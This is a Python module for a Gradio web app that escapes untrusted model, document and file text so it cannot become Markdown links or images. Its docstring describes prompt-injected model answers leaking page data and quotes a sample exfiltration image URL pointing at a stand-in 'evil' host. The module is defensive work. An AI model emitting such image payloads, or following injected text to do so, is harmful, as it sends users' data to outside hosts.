"""Escaping for text the web app shows as Markdown.

Gradio's sanitiser removes scripts and `on*=` handlers but keeps `<img src=...>` and
Markdown images, and those make the visitor's browser fetch a URL. A document or a
prompt-injected model answer could use one to send what is on the page to another host
(`![x](http://evil/?q=secret)`). So text that comes from a model, a document, a Q/A or
examples file is passed through `inert` before it is shown: it reads the same, but it
cannot become markup, a link or an image.
"""

from __future__ import annotations

import html
import re
from typing import Any

# "http:" before "//": GitHub-flavoured Markdown turns bare URLs into links.
_URL_SCHEME = re.compile(r"(?i)\b([a-z][a-z0-9+.-]{0,31}):(?=//)")
# "www.example.com" is linked too, even without a scheme.
_WWW = re.compile(r"(?i)\bwww\.")


def esc(text: Any) -> str:
    """User- or model-supplied text shown in Markdown: HTML-escaped, never markup."""
    return html.escape(str(text), quote=False)


def inert(text: Any) -> str:
    """Untrusted text for a Markdown view: no HTML, and no link or image can form.

    HTML is escaped first (so `&` in the input cannot smuggle an entity), then
    backslashes are doubled so the input cannot undo what follows, then `[` and `]` are
    backslash-escaped: inline links, images and reference definitions all need them.
    Bare URLs lose their `://` and `www.` to character references, which still display
    as typed but no longer match the autolink rule. Emphasis, headings and code are left
    alone: they change how text looks, never what the browser requests.
    """
    out = esc(text).replace("\\", "\\\\").replace("[", "\\[").replace("]", "\\]")
    out = _URL_SCHEME.sub(r"\1&#58;", out)
    return _WWW.sub("www&#46;", out)
